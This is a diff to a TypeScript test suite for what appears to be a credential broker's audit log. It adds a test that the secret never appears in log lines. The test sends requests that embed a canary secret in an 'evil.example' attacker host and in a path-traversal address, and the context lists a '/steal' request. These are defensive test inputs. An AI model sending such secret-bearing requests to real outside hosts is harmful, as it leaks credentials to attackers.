@@ -16,10 +16,12 @@ import {
 const server = attackingServerBefore();
 
 let w: WatchedBroker;
+let canary: string;
 let extension: TestExtension;
 let connectionId: ConnectionIdOf;
 beforeEach(async () => {
-  w = await watchedBroker(newCanary());
+  canary = newCanary();
+  w = await watchedBroker(canary);
   w.inner.answer = answering('always');
   extension = w.attachNamed();
   connectionId = (await w.connect('bearer', server.url, { displayName: 'Registry of mine' })).id;
@@ -68,6 +70,19 @@ describe('D13: the log alone says who could do what, and what was tried', () => 
       ['GET', 'https://evil.example', '/steal'],
       ['GET', undefined, '/a/../b'],
     ]);
+  });
+
+  it('no line of a use holds its secret, in an address that was allowed or refused', async () => {
+    const client = extension.connections.use(
+      await extension.connections.request({ ...requestOf('bearer'), access }),
+    );
+    await client.fetch(`/a/${canary}`);
+    for (const target of [`https://${canary}.evil.example/${canary}`, `/a/${canary}/../b`])
+      expect(await codeOf(client.fetch(target))).not.toBe('no error');
+    expect(await codeOf(client.fetch(`/a/${canary}`, { method: 'DELETE' }))).not.toBe('no error');
+    const lines = await w.audit({ limit: 10 });
+    expect(lines.filter(({ kind }) => kind === 'use.refused')).toHaveLength(3);
+    expect(JSON.stringify(lines)).not.toContain(canary);
   });
 
   it('the line of a derived handle names its parent and its narrower limits', async () => {
